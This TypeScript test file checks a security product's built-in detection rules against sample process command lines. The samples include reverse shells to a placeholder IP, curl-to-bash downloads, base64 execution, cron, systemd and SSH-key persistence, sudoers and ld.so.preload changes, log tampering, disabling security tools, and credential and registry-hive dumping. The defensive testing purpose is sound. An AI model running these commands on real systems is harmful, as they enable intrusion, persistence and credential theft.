import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { detectionTestCommand } from '@vakt/contract/detection-test';
import type { CellValue } from '@vakt/contract/hunting/tables';
import { builtInRules } from '../src/built-in-rules.ts';
import { type Fixture, newTenant, processRow, withDetection } from './vakt-with-detection.ts';

type Process = Readonly<Record<string, CellValue>>;

const command = (ProcessCommandLine: string, more: Process = {}): Process => ({
  FileName: /^\S*?([^/\s]+)(?:\s|$)/.exec(ProcessCommandLine)?.[1] ?? '',
  ProcessCommandLine,
  ...more,
});

const test = detectionTestCommand('7d3f');

/** What each rule must see, and what looks like it and is none. Written for this test, run nowhere. */
const CASES: Readonly<
  Record<string, { readonly hits: readonly Process[]; readonly others: readonly Process[] }>
> = {
  'any/detection-test': {
    hits: [command([test.program, ...test.args].join(' '))],
    others: [command('vakt detection-test 7d3f')],
  },
  'linux/reverse-shell': {
    hits: [
      command('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'),
      command('nc -e /bin/sh 192.0.2.7 4444'),
      command('ncat 192.0.2.7 4444 --exec /bin/bash', { FileName: 'ncat' }),
      command('socat TCP:192.0.2.7:4444 EXEC:/bin/bash,pty', { FileName: 'socat' }),
      command('python3 -c import socket,subprocess,os;s=socket.socket();os.dup2(s.fileno(),0)'),
      command('sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f'),
    ],
    others: [command('nc -z localhost 5432'), command('ls /dev/tcp'), command('python3 -m socketserver')],
  },
  'linux/download-to-shell': {
    hits: [
      command('sh -c curl -fsSL https://example.org/i.sh | bash'),
      command('bash -c wget -qO- http://192.0.2.7/x | sudo sh'),
      command('bash -c "$(curl -fsSL https://example.org/i.sh)"'),
    ],
    others: [
      command('curl -o file.tar https://example.org/f.tar'),
      command('sh -c curl https://example.org | jq .'),
    ],
  },
  'linux/download-and-execute': {
    hits: [command('sh -c wget http://192.0.2.7/m -O /tmp/m; chmod +x /tmp/m; /tmp/m')],
    others: [command('sh -c curl -O https://example.org/a && chmod 644 a')],
  },
  'linux/base64-execution': {
    hits: [
      command('sh -c echo aWQK | base64 -d | bash'),
      command('bash -c eval "$(echo aWQK | base64 --decode)"'),
      command('python3 -c import base64;exec(base64.b64decode("cHJpbnQoMSk="))', {
        ProcessCommandLine: 'python3 -c import base64 exec(base64.b64decode("cHJpbnQoMSk="))',
      }),
    ],
    others: [command('base64 -d secret.txt'), command('sh -c echo a | base64')],
  },
  'linux/cron-persistence': {
    hits: [
      command('sh -c (crontab -l; echo "* * * * * /tmp/x") | crontab -'),
      command('crontab /tmp/jobs'),
      command('sh -c echo "* * * * * root /x" >> /etc/cron.d/x'),
    ],
    others: [command('crontab -l'), command('cat /etc/cron.d/x')],
  },
  'linux/authorized-keys': {
    hits: [
      command('sh -c echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys'),
      command('tee -a /home/a/.ssh/authorized_keys'),
    ],
    others: [command('cat /home/a/.ssh/authorized_keys')],
  },
  'linux/log-tampering': {
    hits: [
      command('rm -f /var/log/auth.log'),
      command('sh -c > /var/log/wtmp'),
      command('bash -c unset HISTFILE; id'),
      command('ln -sf /dev/null /root/.bash_history'),
    ],
    others: [command('tail -f /var/log/auth.log'), command('rm /var/log/myapp/debug.log')],
  },
  'linux/account-created': {
    hits: [command('useradd -m eve'), command('usermod -aG sudo eve')],
    others: [
      command('usermod -s /bin/zsh alice'),
      command('useradd ntp', { InitiatingProcessFileName: 'dpkg' }),
    ],
  },
  'linux/sudoers-changed': {
    hits: [command('sh -c echo "eve ALL=(ALL) NOPASSWD: ALL" >> /etc/sudoers.d/eve')],
    others: [command('cat /etc/sudoers')],
  },
  'linux/library-preload': {
    hits: [command('sh -c echo /usr/lib/x.so > /etc/ld.so.preload')],
    others: [command('cat /etc/ld.so.preload')],
  },
  'linux/security-tools-disabled': {
    hits: [command('systemctl stop auditd'), command('setenforce 0'), command('iptables -F')],
    others: [command('systemctl status auditd'), command('iptables -L')],
  },
  'linux/web-service-shell': {
    hits: [
      command('sh -c curl http://192.0.2.7/x -o /tmp/x', {
        FileName: 'sh',
        InitiatingProcessFileName: 'java',
      }),
    ],
    others: [command('sh -c date', { FileName: 'sh', InitiatingProcessFileName: 'java' })],
  },
  'linux/volatile-folder-program': {
    hits: [
      command('/dev/shm/x', { FolderPath: '/dev/shm/x' }),
      command('/tmp/.hidden/x', { FolderPath: '/tmp/.hidden/x' }),
    ],
    others: [
      command('/tmp/build/x', { FolderPath: '/tmp/build/x' }),
      command('/tmp/.mount_AbC/AppRun', { FolderPath: '/tmp/.mount_AbC/AppRun' }),
    ],
  },
  'linux/credential-files': {
    hits: [command('cat /etc/shadow'), command('cp /home/a/.ssh/id_ed25519 /tmp')],
    others: [command('cat /etc/passwd'), command('ssh -i /home/a/.ssh/id_ed25519 host')],
  },
  'linux/systemd-persistence': {
    hits: [command('tee /etc/systemd/system/x.service'), command('systemctl enable /tmp/x.service')],
    others: [command('systemctl enable nginx')],
  },
  'windows/registry-hive-dump': {
    hits: [command('reg  save HKLM\\SYSTEM C:\\Windows\\Temp\\S'), command('reg.exe save "hklm\\sam" s')],
    others: [command('reg export "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Winlogon" r.txt /y')],
  },
};

describe('built-in rules over command lines', () => {
  let fixture: Fixture;
  before(async () => {
    fixture = await withDetection();
  });
  after(() => fixture.close());

  for (const [ruleKey, { hits, others }] of Object.entries(CASES))
    it(`${ruleKey} sees what it is for, and nothing that looks like it`, async () => {
      const tenant = newTenant();
      const detection = fixture.start({ builtInRules: builtInRules.filter(({ id }) => id === ruleKey) });
      const rows = [...hits, ...others].map((row, ReportId) => processRow({ ...row, ReportId }));
      await fixture.lake.append(tenant, { table: 'DeviceProcessEvents', rows });
      await detection.notify(tenant, 'DeviceProcessEvents');
      await detection.flush();
      const found = await fixture.store
        .tenant(tenant)
        .selectFrom('detection_hits')
        .select('report_id')
        .execute();
      assert.deepEqual(
        found.map(({ report_id }) => Number(report_id)).toSorted((left, right) => left - right),
        hits.map((_, index) => index),
      );
    });
});
